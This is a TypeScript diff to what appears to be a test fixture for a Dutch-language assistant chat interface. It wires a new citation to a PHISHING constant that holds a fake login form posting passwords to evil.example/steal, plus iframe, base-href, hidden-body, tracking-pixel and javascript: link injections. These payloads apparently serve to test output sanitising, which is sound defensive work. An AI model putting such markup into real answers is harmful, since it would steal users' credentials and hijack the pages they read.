@@ -17,6 +17,8 @@ const SLA: Citation = { source: "sla-manager.md", section: "Taken › Rapportage
 const SLA_AGAIN: Citation = { ...SLA, quote: "bewaakt de afspraken" };
 const SERVICEDESK: Citation = { source: "servicedesk.md", section: "Schaal › Niveau C1", quote: "Niveau C1", title: "Servicedesk medewerker ICT", system: "provincie" };
 
+const PHISH_DOC: Citation = { source: "phish.md", section: "Inloggen", quote: "Log opnieuw in", title: "Document met een formulier", system: "rijk" };
+
 export const PHISHING =
   'Log opnieuw in om verder te lezen.\n\n<form action="https://evil.example/steal" method="post"><input type="password" name="p" placeholder="Wachtwoord"><button>Inloggen</button></form>\n\n<iframe src="https://evil.example/"></iframe><style>body{display:none}</style><base href="https://evil.example/"><img src="https://evil.example/pixel.png">\n\n[klik hier](javascript:alert(1)) en [veilig](https://example.org/)';
 
@@ -55,7 +57,7 @@ export class ScriptedAssistant implements Assistant {
         expansions: [{ label: "…en 3 meer", markdown: "- Onderhandelen\n- Klantgerichtheid\n- Plannen" }],
       };
     }
-    if (question.includes("phishing")) return { ...base, answer: PHISHING, citations: [SLA] };
+    if (question.includes("phishing")) return { ...base, answer: PHISHING, citations: [PHISH_DOC] };
     if (question.includes("concept")) {
       for (const delta of ["De servicedesk ", "medewerker zit op ", "schaal 99 [1]."]) options.onToken?.(delta);
       await new Promise((resolve) => setTimeout(resolve, this.draftDelayMs));
@@ -81,6 +83,7 @@ export class ScriptedAssistant implements Assistant {
 
   section(source: string, section: string): SectionText | undefined {
     if (source === SLA.source && section === SLA.section) return { source, title: SLA.title!, system: "ufo", section, text: SECTION_TEXT };
+    if (source === PHISH_DOC.source && section === PHISH_DOC.section) return { source, title: PHISH_DOC.title!, system: "rijk", section, text: PHISHING };
     if (source === SERVICEDESK.source && section === SERVICEDESK.section) return { source, title: SERVICEDESK.title!, system: "provincie", section, text: "Niveau C1" };
     return undefined;
   }
